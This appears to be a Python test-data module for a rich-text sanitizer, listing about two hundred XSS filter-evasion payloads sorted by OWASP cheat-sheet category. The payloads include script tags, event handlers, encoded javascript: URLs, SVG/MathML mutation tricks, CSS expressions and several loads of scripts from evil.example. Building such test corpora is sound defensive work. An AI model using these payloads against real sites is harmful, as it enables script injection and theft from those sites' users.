"""
Hostile rich text, grouped by the categories of the OWASP XSS Filter Evasion Cheat
Sheet. Every entry is something an editor might paste, or a contributor might send,
into a rich-text field; none of it may reach a reader as anything but plain text,
allowed formatting or an http(s)/mailto link.
"""

SCRIPT_TAGS = [
    "<script>alert(101)</script>",
    "<SCRIPT>alert(102)</SCRIPT>",
    "<ScRiPt>alert(103)</sCrIpT>",
    "<script>alert(104)",
    "<script>alert(105)</script >",
    '<script>alert(106)</script foo="bar">',
    "<script >alert(107)</script\t\n>",
    "<scr<script>ipt>alert(108)</script>",
    '<script/src="https://evil.example/108.js"></script>',
    "<SCRIPT SRC=https://evil.example/109.js>",
    "<<script>alert(110);//<</script>",
    "<script>document.write('<scr'+'ipt>alert(111)</scr'+'ipt>')</script>",
    "<script><script>alert(112)</script></script>",
    "<p>Before<script>alert(113)</script>after</p>",
    '<script type="text/javascript">alert(114)</script>',
    '<IMG """><SCRIPT>alert(115)</SCRIPT>">',
    "<script\x00>alert(116)</script>",
    '<SCRIPT a=">" SRC="https://evil.example/117.js"></SCRIPT>',
    "<script>alert(118)<!--",
    "<plaintext><script>alert(119)</script>",
    "<SCRIPT/XSS SRC=https://evil.example/120.js></SCRIPT>",
    "<p><script>var a = '</p>'; alert(121);</script></p>",
]

EVENT_HANDLERS_ON_ALLOWED_TAGS = [
    '<p onclick="alert(201)">Click the paragraph</p>',
    '<a href="https://example.org/" onmouseover="alert(202)">hover</a>',
    "<b onmouseover=alert(203)>bold</b>",
    '<strong ONCLICK="alert(204)">strong</strong>',
    "<ul><li onfocus=alert(205) tabindex=1>item</li></ul>",
    '<h3 onanimationstart="alert(206)">Heading</h3>',
    "<br onload=alert(207)>",
    '<a href="https://example.org/"onclick="alert(208)">no space</a>',
    "<em/onmouseover=alert(209)>slash</em>",
    "<p/onclick=alert(210)>slash paragraph</p>",
    '<ol onpointerenter="alert(211)"><li>one</li></ol>',
    '<h4 OnMouseOver="alert(212)">mixed case handler</h4>',
]

EVENT_HANDLERS_ON_OTHER_TAGS = [
    "<img src=x onerror=alert(301)>",
    "<IMG SRC=x ONERROR=alert(302)>",
    "<body onload=alert(303)>body",
    '<div onmouseover="alert(304)">hover the div</div>',
    "<input autofocus onfocus=alert(305)>",
    "<details open ontoggle=alert(306)>details</details>",
    "<marquee onstart=alert(307)>marquee</marquee>",
    '<video><source onerror="alert(308)"></video>',
    "<audio src=x onerror=alert(309)>",
    "<video src=x onerror=alert(310)></video>",
    '<xss onmouseover="alert(311)">custom element</xss>',
    "<select autofocus onfocus=alert(312)>",
    "<textarea autofocus onfocus=alert(313)>",
    "<keygen autofocus onfocus=alert(314)>",
    '<IMG SRC=# onmouseover="alert(315)">',
    '<img src=1 href=1 onerror="javascript:alert(316)"></img>',
    "<isindex type=image src=1 onerror=alert(317)>",
    '<span onmouseover="alert(318)">span</span>',
    '<table onmouseover="alert(319)"><tr><td>cell</td></tr></table>',
]

JAVASCRIPT_URLS = [
    '<a href="javascript:alert(401)">plain</a>',
    '<a href="JaVaScRiPt:alert(402)">mixed case</a>',
    "<a href=javascript:alert(403)>unquoted</a>",
    '<a href="  javascript:alert(404)">leading spaces</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    'alert(405)">decimal references</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(406)">'
    "decimal references without semicolons</a>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058alert(407)">padded decimal references</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(408)">'
    "hexadecimal references without semicolons</a>",
    '<a href="&#x6A;avascript:alert(409)">one hexadecimal reference</a>',
    '<a href="&#X6A;avascript&#X3A;alert(410)">upper-case X</a>',
    '<a href="javascript&colon;alert(411)">named colon</a>',
    '<a href="&#x0000006A;avascript:alert(412)">padded hexadecimal</a>',
    '<a href="javascript&#x003A;alert(413)">padded colon</a>',
    '<a href="javascript&#58;alert(414)">decimal colon</a>',
    '<a href="java&#x09;script:alert(415)">encoded tab</a>',
    '<a href="java\tscript:alert(416)">raw tab</a>',
    '<a href="java&#x0A;script:alert(417)">encoded newline</a>',
    '<a href="java\nscript:alert(418)">raw newline</a>',
    '<a href="java&#x0D;script:alert(419)">encoded carriage return</a>',
    '<a href="java\x00script:alert(420)">null byte</a>',
    '<a href="&#14;  javascript:alert(421)">meta characters first</a>',
    '<a href="\x01javascript:alert(422)">control character first</a>',
    '<a href="javas&Tab;cript:alert(423)">named tab</a>',
    '<a href="&#x20;javascript:alert(424)">encoded space first</a>',
    '<a href="\u2028javascript:alert(425)">line separator first</a>',
    '<a href="javascript://example.org/%0Aalert(426)">comment trick</a>',
    '<a href="javascript:/*https://example.org*/alert(427)">comment in path</a>',
    '<a href="https:javascript:alert(428)">scheme chain</a>',
    '<a href="\x0bjavascript:alert(429)">vertical tab first</a>',
    '<a href="jav\u00adascript:alert(430)">soft hyphen</a>',
    "<a href='javascript:alert(431)'>single quotes</a>",
    '<a href="javascript:alert(432)" href="https://example.org/">duplicate href</a>',
    '<a HREF="javascript:alert(433)">upper-case attribute</a>',
    '<a href="&#x26;#x6A;avascript:alert(434)">double-encoded</a>',
]

OTHER_SCHEMES = [
    '<a href="vbscript:msgbox(501)">vbscript</a>',
    '<a href="VBSCRIPT:alert(502)">upper-case vbscript</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1MDMpPC9zY3JpcHQ+">data</a>',
    '<a href="data:text/html,<script>alert(504)</script>">data with markup</a>',
    '<a href="DATA:text/html,alert(505)">upper-case data</a>',
    '<a href="livescript:alert(506)">livescript</a>',
    '<a href="//evil.example/507">protocol-relative</a>',
    '<a href="\\\\evil.example\\508">backslashes</a>',
    '<a href="file:///etc/passwd">file</a>',
    '<a href="/relative/510">relative</a>',
    '<a href="https://www.example.org@evil.example/511">credentials</a>',
    '<a href="ftp://evil.example/512">ftp</a>',
    '<a href="mhtml:https://evil.example/513!x">mhtml</a>',
]

SVG_AND_MATHML = [
    "<svg onload=alert(601)>",
    "<svg><script>alert(602)</script></svg>",
    '<svg><a xlink:href="javascript:alert(603)"><text x="20" y="20">svg link'
    "</text></a></svg>",
    "<svg><animate onbegin=alert(604) attributeName=x dur=1s>",
    '<svg><foreignObject><p onclick="alert(605)">foreign</p></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(606)>",
    '<math href="javascript:alert(607)">math link</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(608)">'
    "maction</maction></math>",
    "<svg><style><img src=x onerror=alert(609)></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(610)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(611)>">',
    '<svg><set attributeName="href" to="javascript:alert(612)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(613)>"/></svg>',
    "<math><mi xlink:href=javascript:alert(614)>mi</mi></math>",
    "<svg><title><script>alert(615)</script></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(616)</script>]]></svg>",
    "<svg><p><style><img src=x onerror=alert(617)>",
]

STYLE = [
    '<style>body{background:url("javascript:alert(701)")}</style>',
    '<p style="background-image:url(javascript:alert(702))">styled</p>',
    '<p style="width:expression(alert(703))">expression</p>',
    "<STYLE>@import'https://evil.example/704.css';</STYLE>",
    '<link rel="stylesheet" href="javascript:alert(705)">',
    '<div style="background:url(&#1;javascript:alert(706))">background</div>',
    '<STYLE>li {list-style-image: url("javascript:alert(707)");}</STYLE>'
    "<UL><LI>list item</UL>",
    '<p style="xss:expr/*XSS*/ession(alert(708))">comment in expression</p>',
    "<style>*{x:expression(alert(709))}</style>",
    '<a href="https://example.org/" style="position:fixed;top:0">overlay</a>',
    '<STYLE type="text/css">BODY{background:url("javascript:alert(711)")}</STYLE>',
    '<b style="behavior: url(https://evil.example/712.htc)">behaviour</b>',
]

FRAMES_AND_OBJECTS = [
    '<iframe src="javascript:alert(801)"></iframe>',
    '<iframe srcdoc="<script>alert(802)</script>"></iframe>',
    '<IFRAME SRC=# onmouseover="alert(803)"></IFRAME>',
    '<object data="javascript:alert(804)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/805.html">'
    "<param name=x value=y>alert(805)</object>",
    '<embed src="javascript:alert(806)">',
    '<FRAMESET><FRAME SRC="javascript:alert(807)"></FRAMESET>',
    '<applet code="x">alert(808)</applet>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoODA5KT4=" '
    'type="image/svg+xml">',
    "<iframe><script>alert(810)</script></iframe>",
]

FORMS = [
    '<form action="javascript:alert(901)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(902)">go</button></form>',
    '<input type="image" src="javascript:alert(903)">',
    "<isindex action=javascript:alert(904) type=image>",
    "<form id=f></form><button form=f formaction=javascript:alert(905)>x</button>",
    "<select><option><script>alert(906)</script></option></select>",
    "<textarea><script>alert(907)</script></textarea>",
]

META_AND_BASE = [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1001)">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,'
    'PHNjcmlwdD5hbGVydCgxMDAyKTwvc2NyaXB0Pg==">',
    '<base href="javascript:alert(1003)//">',
    '<link rel=import href="https://evil.example/1004.html">',
    '<BGSOUND SRC="javascript:alert(1005);">',
]

IMAGES_AND_MEDIA = [
    '<IMG SRC="javascript:alert(1101);">',
    "<IMG SRC=JaVaScRiPt:alert(1102)>",
    '<IMG DYNSRC="javascript:alert(1103)">',
    '<IMG LOWSRC="javascript:alert(1104)">',
    '<table background="javascript:alert(1105)"><tr><td>cell</td></tr></table>',
    '<td background="javascript:alert(1106)">',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1107);">',
    "<video poster=javascript:alert(1108)></video>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1109>",
]

COMMENTS = [
    "<!--<script>alert(1201)</script>-->",
    "<!--[if gte IE 4]><script>alert(1202)</script><![endif]-->",
    "<!-- --!><script>alert(1203)</script> -->",
    "<!--><script>alert(1204)</script>-->",
    "<![CDATA[<script>alert(1205)</script>]]>",
    "<p>visible<!-- hidden note -->text</p>",
    "<? alert(1207) ?>",
    "<!--[if]><script>alert(1208)</script -->",
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(1209)"></B></I></XML>',
]

ATTRIBUTE_BREAKERS = [
    '"><script>alert(1301)</script>',
    "'><img src=x onerror=alert(1302)>",
    '<a href="https://example.org/"><script>alert(1303)</script>"></a>',
    '<a title=\'"><script>alert(1304)</script>\' href="https://example.org/">t</a>',
    '<a href="https://example.org/" title="x" onclick=alert(1305)//>x</a>',
    "<a href=https://example.org/ onmouseover=alert(1306)>unquoted</a>",
    '<a href="https://example.org/" `onmouseover=alert(1307)`>backtick</a>',
    "<img src=`javascript:alert(1308)`>",
    '<img src="x`<script>alert(1309)</script>"`>',
    '<a href="https://example.org/"<script>alert(1310)</script>',
    '<a href="https://example.org/" id="x" name="y" class="z" data-x="1">clobber</a>',
    '<a href="https://example.org/" target="_blank" rel="opener">opener</a>',
]

MALFORMED_AND_NESTED = [
    '<a href="javascript:alert(1401)">',
    '<p><a href="https://example.org/"><b><i>deep <script>alert(1402)</script>'
    "</i></b></a>",
    "<div><div><div><script>alert(1403)</script>",
    '<BR SIZE="&{alert(1404)}">',
    '<HTML xmlns:xss><?import namespace="xss" implementation="https://evil.example/'
    '1405.htc"><xss:xss>XSS</xss:xss></HTML>',
    "<template><script>alert(1406)</script></template>",
    "<noscript><script>alert(1407)</script></noscript>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1408)>">',
    "<title><script>alert(1409)</script></title>",
    "<xmp><script>alert(1410)</script></xmp>",
    "<noembed><script>alert(1411)</script></noembed>",
    "<noframes><script>alert(1412)</script></noframes>",
    "<p>a<button><p>alert(1413)</p></button></p>",
    "<ul><li>a<table><td><li>b<script>alert(1414)</script></td></table></ul>",
    "<a href=https://example.org/><a href=javascript:alert(1415)>nested</a></a>",
    "<b><p>misnested</b> <i>alert(1416)</p></i>",
    "<h1>Big</h1><h2>Bigger</h2><script>alert(1417)</script>",
    "<\x00script>alert(1418)</script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1419) )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1419)//>\\x3e",
]

CORPUS = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS_ON_ALLOWED_TAGS,
    *EVENT_HANDLERS_ON_OTHER_TAGS,
    *JAVASCRIPT_URLS,
    *OTHER_SCHEMES,
    *SVG_AND_MATHML,
    *STYLE,
    *FRAMES_AND_OBJECTS,
    *FORMS,
    *META_AND_BASE,
    *IMAGES_AND_MEDIA,
    *COMMENTS,
    *ATTRIBUTE_BREAKERS,
    *MALFORMED_AND_NESTED,
]
